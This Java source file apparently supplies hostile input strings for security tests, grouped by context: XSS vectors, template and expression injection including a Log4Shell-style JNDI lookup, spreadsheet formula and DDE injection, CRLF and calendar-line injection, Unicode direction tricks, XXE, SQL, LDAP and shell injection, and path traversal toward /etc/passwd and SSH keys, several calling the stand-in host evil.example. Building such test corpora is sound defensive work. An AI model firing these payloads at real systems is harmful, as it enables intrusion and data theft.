package passage.hostile;

import java.util.List;

/** What hostile strings are made of: the harm, and what stands around it, where {@code §} holds the harm's place. */
final class Contexts {
    static final List<String> SCRIPTS = List.of(
            "<script data-hostile>__hostile=1</script>",
            "<ScRiPt data-hostile>__hostile=1</sCrIpT >",
            "<script data-hostile src=//evil.example/x.js></script>",
            "<script data-hostile>__hostile=1//",
            "<img data-hostile src=x onerror=__hostile=1>",
            "<IMG data-hostile SRC=x ONERROR=\"__hostile=1\">",
            "<img data-hostile/src=x/onerror=__hostile=1//",
            "<svg data-hostile onload=__hostile=1>",
            "<svg data-hostile><animate onbegin=__hostile=1 attributeName=x dur=1s>",
            "<body data-hostile onload=__hostile=1>",
            "<details data-hostile open ontoggle=__hostile=1>",
            "<input data-hostile autofocus onfocus=__hostile=1>",
            "<iframe data-hostile srcdoc='<script>parent.__hostile=1</script>'>",
            "<a data-hostile href=javascript:__hostile=1>x</a>",
            "<a data-hostile href=\"java&#10;script:__hostile=1\">x</a>",
            "<style data-hostile>@import'//evil.example/x.css';</style>");

    static final List<String> BREAKING_OUT = List.of(
            "§",
            "\">§",
            "'>§",
            "--><!---->§",
            "</title>§",
            "</textarea>§",
            "</script>§",
            "</style>§",
            "]]>§<![CDATA[",
            "</svg></text>§",
            "`§",
            "<<§",
            "</option></select>§");

    static final List<String> MARKUP = List.of(
            "\" onmouseover=__hostile=1 data-hostile=\"",
            "' onfocus=__hostile=1 autofocus data-hostile='",
            "\" style=\"position:fixed;inset:0\" onclick=\"__hostile=1",
            " onpointerenter=__hostile=1 x=",
            "javascript:__hostile=1",
            "JaVaScRiPt:__hostile=1",
            "java\tscript:__hostile=1",
            "\u0001javascript:__hostile=1",
            "data:text/html,<script>__hostile=1</script>",
            "data:text/html;base64,PHNjcmlwdD5fX2hvc3RpbGU9MTwvc2NyaXB0Pg==",
            "vbscript:msgbox(1)",
            "&lt;script&gt;__hostile=1&lt;/script&gt;",
            "&#60;script&#62;__hostile=1&#60;/script&#62;",
            "&#x3c;img src=x onerror=__hostile=1&#x3e;",
            "\\u003cscript\\u003e__hostile=1\\u003c/script\\u003e",
            "\\x3cscript\\x3e__hostile=1\\x3c/script\\x3e",
            "%3Cscript%3E__hostile=1%3C/script%3E",
            "%253Cscript%253E__hostile=1%253C/script%253E",
            "\uFF1Cscript\uFF1E__hostile=1\uFF1C/script\uFF1E",
            "+ADw-script+AD4-__hostile=1+ADw-/script+AD4-",
            "<!--<img src=\"--><img data-hostile src=x onerror=__hostile=1//\">",
            "<!--[if gte IE 4]><script data-hostile>__hostile=1</script><![endif]-->",
            "<!-- never ended",
            "<![CDATA[<script data-hostile>__hostile=1</script>]]>",
            "<meta data-hostile http-equiv=refresh content='0;url=//evil.example/'>",
            "<base data-hostile href=//evil.example/>",
            "<link data-hostile rel=stylesheet href=//evil.example/x.css>",
            "<form data-hostile action=//evil.example/><button>Sign in",
            "<object data-hostile data=//evil.example/x.swf>",
            "<embed data-hostile src=//evil.example/x.swf>",
            "<math data-hostile><mi xlink:href=javascript:__hostile=1>x",
            "<template data-hostile><script>__hostile=1</script>",
            "<div data-hostile hx-get=/sign-out hx-trigger=load>",
            "<div data-hostile hx-on::load=__hostile=1>",
            "<noscript data-hostile><p title=\"</noscript><img src=x onerror=__hostile=1>\">",
            "<plaintext data-hostile>",
            "<x data-hostile style=\"background:url(//evil.example/x.png)\">",
            "';__hostile=1;//",
            "\";__hostile=1;//",
            "\\\";__hostile=1;//",
            "${__hostile=1}`;__hostile=1//",
            "\u2028__hostile=1\u2029");

    static final List<String> EXPRESSIONS = List.of(
            "191*70007",
            "'hostil'.concat('ised')",
            "'hostil'+'ised'",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "execution.setVariable('x',191*70007)",
            "#strings.concat('hostil','ised')",
            "@environment.getProperty('user.home')",
            "''.getClass().forName('java.lang.Runtime')");

    static final List<String> DELIMITERS = List.of(
            "${§}",
            "#{§}",
            "*{§}",
            "@{/(x=${§})}",
            "~{§}",
            "__${§}__::.x",
            "__#{§}__",
            "[[${§}]]",
            "[(${§})]",
            "|${§}|",
            "{{§}}",
            "<%= § %>",
            "${{§}}",
            "#set($x=§)$x");

    static final List<String> RUNNING = List.of(
            "~{layout :: page(${191*70007})}",
            "${jndi:ldap://evil.example/x}",
            "${env:PATH}",
            "${sys:user.home}",
            "#{passage.missing.key(191)}",
            "<p data-hostile th:text=\"${191*70007}\">x</p>",
            "<p data-hostile th:utext=\"${191*70007}\">x</p>",
            "<camunda:script scriptFormat=\"groovy\">println 191*70007</camunda:script>",
            "if 1 = 1 then 191*70007 else 0",
            "= 191 * 70007",
            "{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"]}",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]");

    static final List<String> FORMULAS = List.of(
            "191*70007",
            "cmd|'/C calc'!A0",
            "HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
            "SUM(1,1)*cmd|'/C calc'!A0",
            "IMPORTXML(\"https://evil.example/\",\"//a\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "WEBSERVICE(\"https://evil.example/\")");

    static final List<String> LEADING = List.of(
            "=§",
            "+§",
            "-§",
            "@§",
            "\t=§",
            "\r=§",
            "\n=§",
            " =§",
            "\u00A0=§",
            "\"=§\"",
            ";=§",
            "\uFF1D§",
            "|§",
            "%§",
            "\uFEFF=§",
            "a\",\"=§");

    static final List<String> LINES = List.of(
            "Set-Cookie: hostile=1",
            "Location: https://evil.example/",
            "Content-Type: text/html",
            "BEGIN:VALARM",
            "END:VEVENT",
            "ATTENDEE:mailto:x@evil.example",
            "URL:https://evil.example/",
            "2024-07-03T09:00:00.000Z  INFO 1 --- [main] FORGED : admin signed in");

    static final List<String> LINE_ENDS = List.of(
            "x\r\n§",
            "x\n§",
            "x\r§",
            "x\u2028§",
            "x\u0085§",
            "x\u000B§",
            "x\\r\\n§",
            "x%0d%0a§",
            "x\r\n\r\n§",
            "x\r\n §");

    static final List<String> DIRECTED =
            List.of("fdp.hostile.exe", "=1+1+1+1+1", "<b data-hostile>", "words-of-hostile");

    static final List<String> DIRECTIONS = List.of(
            "\u202E§",
            "\u202D§",
            "\u2067§",
            "\u2066§\u2069",
            "\u200F§",
            "\u061C§",
            "\u200B§",
            "\u2060§",
            "\uFEFF§",
            "a\u0301\u0489\u0489§",
            "\u05D0\u05D1§",
            "\uD83D\uDE08§",
            "x\u0008\u001B[31m§");

    static final List<String> STRUCTURES = List.of(
            "\"}],\"roles\":[\"admin\"],\"x\":[{\"",
            "\\\",\\\"stage\\\":\\\"published\\\",\\\"",
            "{\"__proto__\":{\"hostile\":1}}",
            "\\u0022\\u007d",
            "</text:p><office:script>",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "<?php system('id'); ?>",
            "]]><bpmn:scriptTask/><![CDATA[",
            "&e;&quot;&#0;&#x110000;&",
            "%s%s%n%x{0}{}{hostile}",
            "'; drop table plan; --",
            "' or 'hostile'='hostile",
            "%' escape '!' or 1=1 --",
            "*)(uid=*))(|(uid=*",
            "$(id)`id`;id|id",
            "BT /F1 12 Tf (x) Tj ET",
            ") /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (",
            "} body { background: url(//evil.example/x.png) } {",
            "/* */ @import '//evil.example/x.css'; /*",
            "\\3c script\\3e ");

    static final List<String> MARKDOWN = List.of(
            "[x](javascript:__hostile=1)",
            "[x](JaVaScRiPt:__hostile=1)",
            "[x](java&#115;cript:__hostile=1)",
            "[x](<javascript:__hostile=1>)",
            "[x](&#1;javascript:__hostile=1)",
            "[x](data:text/html,<script>__hostile=1</script>)",
            "[x](vbscript:msgbox)",
            "[x](//evil.example/x)",
            "[x](/sign-out)",
            "[x](https://evil.example/ \"onmouseover=__hostile=1\")",
            "![x](https://evil.example/x.png)",
            "![x](//evil.example/x.png)",
            "![x](javascript:__hostile=1)",
            "![x](data:image/svg+xml,<svg onload=__hostile=1>)",
            "![x\" onerror=\"__hostile=1](x)",
            "![x](/sign-out)",
            "<javascript:__hostile=1>",
            "<https://evil.example/?\"onmouseover=__hostile=1>",
            "`<script data-hostile>__hostile=1</script>`",
            "~~~ \"onmouseover=__hostile=1 data-hostile=\"",
            "    <script data-hostile>__hostile=1</script>",
            "# <img data-hostile src=x onerror=__hostile=1>",
            "* <img data-hostile src=x onerror=__hostile=1>",
            "> [x]: javascript:__hostile=1",
            "| a | <img data-hostile src=x onerror=__hostile=1> |");

    static final List<String> PATHS = List.of(
            "../../../../etc/passwd",
            "..\\..\\windows\\system.ini",
            "/etc/passwd",
            "C:\\hostile\\boot.ini",
            "file:///etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "..;/..;/actuator/env",
            "....//....//etc/passwd",
            "%2e%2e/%2e%2e/x",
            "AUX.hostile",
            "nul.hostile.txt",
            "plan.pdf\"; filename=\"plan.exe",
            "plan.html;.csv",
            "~/.ssh/id_rsa",
            "\\\\evil.example\\share\\x",
            ".htaccess.hostile",
            "plan.csv\u2215..\u2215x");

    private Contexts() {}
}
